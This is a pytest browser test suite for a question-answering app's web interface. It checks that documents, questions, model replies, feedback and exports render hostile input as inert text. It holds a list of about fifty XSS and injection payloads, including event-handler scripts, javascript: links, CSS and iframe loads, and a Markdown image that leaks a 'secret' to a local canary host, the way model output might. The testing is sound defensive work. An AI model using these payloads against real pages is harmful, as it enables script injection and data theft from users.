"""Documents, names, questions, replies and feedback that attack the reader: all of it stays text.

The browser's own request log is the proof that nothing was loaded, and a canary server counts
who came; a script that ran would have set ``window.ran`` or opened a dialog.
"""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import Any

import pytest

from tests.browser.conftest import Served, Session

OUT = "http://127.0.0.1:{port}"
PAYLOADS = [
    "<script>window.ran=1</script>",
    "<script src={out}/a.js></script>",
    "</script><script>window.ran=1</script>",
    "<img src={out}/a.png>",
    "<img src=x onerror=window.ran=1>",
    "<img srcset='{out}/a.png 2x'>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><image href='{out}/a.svg'/></svg>",
    "<svg><use href='{out}/a.svg#x'/></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x>",
    "<iframe src={out}/frame></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data={out}/o></object>",
    "<embed src={out}/e>",
    "<link rel=stylesheet href={out}/a.css>",
    "<link rel=preload as=image href={out}/a.png>",
    "<link rel=prefetch href={out}/p>",
    "<style>@import '{out}/a.css'; * {{background: url({out}/b.png)}}</style>",
    "<div style='background:url({out}/c.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url={out}/r'>",
    "<base href='{out}/'>",
    "<form action='{out}/f'><input name=q autofocus onfocus=window.ran=1></form>",
    "<body onload=window.ran=1>",
    "<video src={out}/v autoplay><source src={out}/v2></video>",
    "<audio src={out}/au autoplay></audio>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<a href=javascript:window.ran=1 id=a>click</a>",
    "<input onfocus=window.ran=1 autofocus>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<template><img src={out}/t.png></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "![leak]({out}/m.png?q=secret)",
    "![leak][1]\n\n[1]: {out}/ref.png",
    "[click](javascript:window.ran=1)",
    "[link]({out}/l)",
    "<{out}/auto>",
    "{out}/bare.png",
    "```html\n<img src={out}/code.png>\n```",
    "$$\\href{{javascript:window.ran=1}}{{x}}$$ \\includegraphics{{{out}/tex.png}}",
    "{{{{constructor.constructor('window.ran=1')()}}}}",
    "${{window.ran=1}} `${{window.ran=1}}`",
    '" onmouseover=window.ran=1 x="',
    "' autofocus onfocus=window.ran=1 '",
    "&lt;img src=x onerror=window.ran=1&gt;",
    "\u202e<img src=x onerror=window.ran=1>\u202c",
    "<scr\u200bipt>window.ran=1</scr\u200bipt>",
    "\x3cimg src=x onerror=window.ran=1\x3e<!--",
    "[1] [999] ［1］ Source 1: <img src={out}/s.png>",
]


@pytest.fixture(scope="module")
def canary() -> Iterator[Any]:
    """A server that nobody should ask; ``hits`` are the paths that somebody did."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.hits.append(self.path)  # type: ignore[attr-defined]
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    server.hits = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture
def payloads(canary: Any) -> list[str]:
    return [text.format(out=OUT.format(port=canary.server_port)) for text in PAYLOADS]


@pytest.fixture(autouse=True)
def nothing_ran(session: Session, canary: Any) -> Iterator[None]:
    opened: list[str] = []

    def dialog(box: Any) -> None:
        opened.append(box.message)
        box.dismiss()

    session.page.on("dialog", dialog)
    yield
    session.page.wait_for_timeout(300)
    assert session.page.evaluate("window.ran") is None
    assert opened == [] and canary.hits == []
    assert session.page.url.startswith(session.url)
    session.page.remove_listener("dialog", dialog)


def reply(payload: str, number: int, document_id: str) -> dict[str, Any]:
    """An answer with the payload wherever a document or a model could have put it."""
    text = f"A reply {payload} with a source. [1]"
    source = {
        "document_id": document_id, "document_title": f"Title {payload}", "publisher": payload,
        "published": None, "page": None, "url": "/documents/x#char=0,4",
    }  # fmt: skip
    citation = {
        **source, "type": "char_location", "marker": 1, "document_sha256": "0" * 64,
        "cited_text": f"Quoted {payload}", "start_char_index": 0, "end_char_index": 4,
        "answer_start_index": 0, "answer_end_index": len(text), "flags": ["instruction_like"],
    }  # fmt: skip
    passage = {
        **source, "chunk_id": f"{document_id}:0-4", "text": f"Passage\n\n{payload}",
        "headings": [payload], "start_char_index": 0, "end_char_index": 4, "score": 1.0,
        "similarity": 0.5, "bm25": 1.0, "dense_rank": 1, "text_rank": None, "features": {},
    }  # fmt: skip
    check = {
        "kind": "words", "value": payload, "passed": False, "reason": payload, "finding": "none",
    }  # fmt: skip
    sentence = {
        "text": text, "verdict": ["supported", "partly", "unsupported"][number % 3],
        "checks": [check], "markers": [1], "answer_start_index": 0, "answer_end_index": len(text),
    }  # fmt: skip
    return {
        "id": payload, "question": payload, "text": text, "abstained": number % 5 == 4,
        "reason": payload, "confidence": 0.7, "sentences": [sentence], "citations": [citation],
        "retrieved": [passage], "notes": [payload], "standalone_question": payload,
        "disagreements": [
            {"topic": payload, "markers": [1], "values": [payload], "note": payload},
        ],
        "answerer": "llm", "model": payload, "timings": {payload: 1.0, "total": 2.0},
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        "settings_hash": "x",
    }  # fmt: skip


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


MADE = (
    "document.querySelectorAll('.thread :is(img, script, iframe, object, embed, link, style,"
    " form, video, audio, base, meta, template, math, marquee, a)').length"
)


def test_questions_replies_and_titles_stay_text(
    session: Session, served: Served, payloads: list[str]
) -> None:
    document_id = served.engine.library.documents(limit=1)[0].document_id
    answers = [reply(payload, n, document_id) for n, payload in enumerate(payloads)]
    turns = [
        {"question": payload, "answer": answer, "problem": payload if n % 7 == 6 else None}
        for n, (payload, answer) in enumerate(zip(payloads, answers, strict=True))
    ]
    kept = [{"id": "x", "title": payloads[4], "created": payloads[1], "turns": turns}]
    session.page.evaluate(
        "(all) => localStorage.setItem('rag.conversations', all)", json.dumps(kept)
    )
    session.open()
    session.page.wait_for_selector(".turn >> nth=40")
    for number, payload in enumerate(payloads):
        shown = session.page.locator(".turn").nth(number).evaluate("(e) => e.textContent")
        assert payload.split("\n")[0].strip() in shown
    session.page.evaluate("""() => {
      for (const one of document.querySelectorAll('.marker, .verdict')) one.focus();
      for (const one of document.querySelectorAll('details')) one.open = true;
    }""")
    session.page.locator("button.marker").first.click()
    session.page.wait_for_selector("#source header h3")
    assert session.page.evaluate(MADE) == 0


def test_streamed_replies_stay_text(session: Session, payloads: list[str]) -> None:
    some = payloads[::6]
    answers = [reply(payload, n, "none") for n, payload in enumerate(some)]
    pending = iter(answers)

    def fulfil(route: Any) -> None:
        told = next(pending)
        frames = [
            ("search_results", {"id": "x", "results": told["retrieved"]}),
            ("message", {"delta": told["text"]}), ("citation", told["citations"][0]),
            ("verification", told["sentences"][0]), ("final_answer", told), ("done", {}),
        ]  # fmt: skip
        body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in frames)
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    session.page.route("**/answer", fulfil)
    session.page.route("**/ui/follow-ups", lambda route: route.fulfill(json={"questions": some}))
    for payload in some:
        session.ask(" ".join(payload.split()))
        session.page.wait_for_selector(".turn:last-child .suggestion")
    assert session.page.evaluate(MADE) == 0


def test_documents_stay_text(
    session: Session, served: Served, payloads: list[str], canary: Any
) -> None:
    held: list[str] = []
    for number, payload in enumerate(payloads):
        text = f"The zorblax of item {number} is coded as follows: {payload} and no more."
        response = session.page.request.post(
            f"{session.url}/documents",
            multipart={
                "title": f"{payload} {number}"[:300], "publisher": payload[:300],
                "author": payload[:300],
                "files": {"name": f"{payload[:60]}-{number}.txt", "mimeType": "text/plain",
                          "buffer": text.encode()},
            },
        )  # fmt: skip
        assert response.status == 201, response.text()
        held.append(response.json()["items"][0]["document_id"])
    try:
        session.tab("Library")
        session.page.wait_for_selector("tbody tr >> nth=49")
        titles = session.page.locator("tbody button.title")
        for number in range(0, 50, 3):
            titles.nth(number).click()
            session.page.wait_for_selector("#source .document")
        session.tab("Ask")
        session.page.click("button.scope")
        session.page.wait_for_selector(".choice >> nth=40")
        session.page.keyboard.press("Escape")
        for number in (0, 7, 18, 33, 44):
            answer = session.ask(f"How is the zorblax of item {number} coded?")
            for passage in answer["retrieved"][:3]:
                assert passage["document_id"]
            session.page.locator(
                ".turn:last-child button.marker, .turn:last-child .passage"
            ).first.click()
            session.page.wait_for_selector("#source mark.current")
            session.page.keyboard.press("Escape")
        made = session.page.evaluate(
            "document.querySelectorAll(':is(#source, #ask, #library) :is(img, script, iframe,"
            " object, embed, link, style, video, audio, base, meta, math, marquee)').length"
        )
        assert made == 0
        for document_id in held[:4]:
            session.page.goto(f"{session.url}/documents/{document_id}")
            assert session.page.evaluate("window.ran") is None
        session.open()
    finally:
        for document_id in held:
            served.engine.remove(document_id)


def test_feedback_stays_text(session: Session, payloads: list[str]) -> None:
    for payload in payloads:
        said = {
            "helpful": False, "reason": "answer_wrong", "comment": payload,
            "question": payload, "text": payload,
        }  # fmt: skip
        assert session.page.request.post(f"{session.url}/feedback", data=said).ok
    session.tab("Quality")
    session.page.wait_for_selector(f".words li >> nth={len(payloads) - 1}")
    assert session.page.locator(".words :is(img, script, svg:not(.icon), iframe, a)").count() == 0


def test_an_export_draws_rows_that_stand_together_as_a_table(session: Session) -> None:
    def exported(text: str) -> str:
        nothing: list[Any] = []
        answer = {
            "text": text,
            "citations": nothing,
            "sentences": nothing,
            "disagreements": nothing,
        }
        told = {"title": "t", "turns": [{"question": "q", "answer": answer}]}
        markdown = session.page.evaluate(
            "async (told) => (await import('/ui/static/history.js')).asMarkdown(told)", told
        )
        return str(markdown).split("## q\n\n")[1].strip()

    rows = "Year | Event\n2016 | Opened\n2019 | Closed"
    table = "| Year | Event |\n| --- | --- |\n| 2016 | Opened |\n| 2019 | Closed |"
    assert exported(rows) == table
    assert exported(f"So it was:\n{rows}\nThat is all.") == f"So it was:\n\n{table}\n\nThat is all."
    assert exported("2016 | 3 | 4\n2017 | 5 | 6").startswith("|  |  |  |\n| --- | --- | --- |\n")
    assert exported("Either a | b or none") == "Either a \\| b or none"


def test_an_export_holds_no_image_and_no_live_markup(session: Session, payloads: list[str]) -> None:
    conversation = {
        "title": payloads[3],
        "turns": [
            {"question": p, "answer": {**reply(p, 0, "d"), "standalone_question": p}}
            for p in payloads
        ],
    }
    markdown = session.page.evaluate(
        "async (told) => (await import('/ui/static/history.js')).asMarkdown(told)", conversation
    )
    unescaped = markdown.replace("\\!", "").replace("\\[", "").replace("\\<", "")
    assert "![" not in unescaped and "<img" not in unescaped and "<script" not in unescaped
    assert "http://" not in markdown
